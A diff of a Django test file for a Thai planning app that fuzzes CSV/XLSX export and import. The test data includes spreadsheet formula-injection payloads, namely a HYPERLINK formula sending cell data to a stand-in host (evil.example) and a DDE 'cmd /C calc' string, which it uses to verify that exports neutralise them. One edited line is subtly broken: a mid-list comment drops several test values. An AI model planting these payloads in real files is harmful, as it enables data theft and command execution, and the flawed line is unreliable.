@@ -20,7 +20,7 @@ from django.apps import apps
 from django.core.exceptions import ValidationError
 from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
-from hypothesis import HealthCheck, event, given, settings
+from hypothesis import HealthCheck, event, example, given, settings
 from hypothesis import strategies as st
 from openpyxl import Workbook, load_workbook
 from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
@@ -50,7 +50,7 @@ FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?d="&A1,"คลิกที
             "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)", "=SUM(1,", "=1/0", "=A1", "'=1+1"]
 DATES = ["31/02/2569", "29/02/2566", "30/02/2569", "00/00/0000", "31/13/2569", "2569-02-31", "๓๑/๐๒/๒๕๖๙",
          "1/1/1", "31 ก.พ. 2569", "2569-13-01T25:61:00"]
-HUGE = ["9" * 40, "-" + "9" * 40, "1e308", "-1e308", "1e-308", "NaN", "nan", "inf", "-inf", "Infinity",
+HUGE = ["9" * 40, "-" + "9" * 40, "9" * 5000,  # past Python's 4,300-digit int() limit "1e308", "-1e308", "1e-308", "NaN", "nan", "inf", "-inf", "Infinity",
         "-0", "0.000000001", "1,000,000,000,000.999", "12.345", "-1", "-0.01", "100.01", "101"]
 
 text = st.text(st.characters(blacklist_categories=("Cs",)), max_size=40)
@@ -475,6 +475,8 @@ def test_exported_xlsx_never_carries_a_formula(rows):
 
 @FUZZ
 @given(rows=st.lists(st.lists(export_text, min_size=2, max_size=2), min_size=1, max_size=8))
+@example(rows=[["", "\r0"]])  # found: a lone CR was written unquoted and the file could not be read back
+@example(rows=[["\r=1+1", "\n=HYPERLINK(\"x\")"]])
 def test_exported_csv_neutralises_formulas_and_reads_back(rows):
     data = write_table(["ชื่อ", "หมายเหตุ"], rows, "csv")
     import csv
@@ -483,11 +485,12 @@ def test_exported_csv_neutralises_formulas_and_reads_back(rows):
         for cell in line:
             # A spreadsheet runs a cell starting with = + - @ (or a tab/CR before one); ours never do,
             # except plain numbers such as -5.
-            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
+            if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "\n") and cell.strip():
                 assert re.fullmatch(r"[-+]?(?:\d[\d,]*)?\.?\d+|-+", cell.strip()), cell
     if any(any(c.strip() for c in row) for row in rows):
         read = [list(r) for r in read_table(data, "t.csv")]
-        expected = [[c.strip() for c in row] for row in rows if any(c.strip() for c in row)]
+        # As typed, but a carriage return is written as a line feed (the csv module leaves a lone one unquoted).
+        expected = [[re.sub("\r\n?", "\n", c).strip() for c in row] for row in rows if any(c.strip() for c in row)]
         assert [r for r in read if any(r)] == expected
 
 
@@ -498,10 +501,35 @@ def test_plan_import_again_with_two_projects_of_the_same_name(seeded):
     """Two projects may share a name. Before: the second import left one parked at ลำดับ 10001 and
     the third failed with the database's English "UNIQUE constraint failed" message."""
     row = ["1", "โครงการอบรมคุณธรรม", "1", "10000", "✓", "", "", "", ""]
-    for rows in ([row, ["2", *row[1:]]], [row], [row], [["10001", *row[1:]]], [row]):
+    for rows in ([row, ["2", *row[1:]]], [row], [row], [["9999", *row[1:]]], [row]):
         plan = plan_services.plan_import(organisation=seeded.org, fiscal_year=2570, filename="p.csv",
                                          data=write_table(PLAN_HEADERS, rows, "csv"), user=seeded.staff)
         assert list(plan.projects.order_by("sequence").values_list("sequence", flat=True)) == [int(r[0]) for r in rows]
+
+
+@pytest.mark.parametrize("sequence", ["10000", "4611686018427387904", "9" * 5000])
+def test_plan_import_refuses_sequence_numbers_no_plan_has(seeded, sequence):
+    """Found: sequences near the column's limit made the next import's parking overflow, and 5,000
+    digits made Python's int() refuse with an English message."""
+    row = [sequence, "โครงการอบรมคุณธรรม", "1", "10000", "✓", "", "", "", ""]
+    with pytest.raises(ImportRejected, match="ลำดับ .* ต้องไม่เกิน 9,999"):
+        plan_services.plan_import(organisation=seeded.org, fiscal_year=2570, filename="p.csv",
+                                  data=write_table(PLAN_HEADERS, [row], "csv"), user=seeded.staff)
+
+
+@pytest.mark.parametrize("rank", ["9" * 40, "9" * 5000, "10001", "๑๐๐๐๐๑"])
+def test_a_huge_national_rank_is_a_thai_error_not_a_500(seeded, client_for, rank):
+    """Found: a 40-digit rank went to the database (OverflowError on SQLite, integer out of range on
+    PostgreSQL): a 500 on the score page and in the import."""
+    before = snapshot(("ita",))
+    response = client_for(seeded.staff).post(f"/ita/org/{seeded.org.code}/2566/edit/",
+                                             {"score_1": "90", "national_rank": rank})
+    assert response.status_code == 200 and "ต้องไม่เกิน 10,000" in response.content.decode()
+    headers = [ita_exchange.CODE, ita_exchange.YEAR, "ตัวชี้วัดที่ 1", ita_exchange.RANK]
+    with pytest.raises(ImportRejected, match="ต้องไม่เกิน 10,000"):
+        ita_exchange.results_import(data=write_table(headers, [[seeded.org.code, "2566", "90", rank]], "csv"),
+                                    filename="ita.csv", user=seeded.staff)
+    assert not changed_tables(before, snapshot(("ita",)))
 
 
 def test_a_forged_formset_size_is_bounded(seeded, client_for):
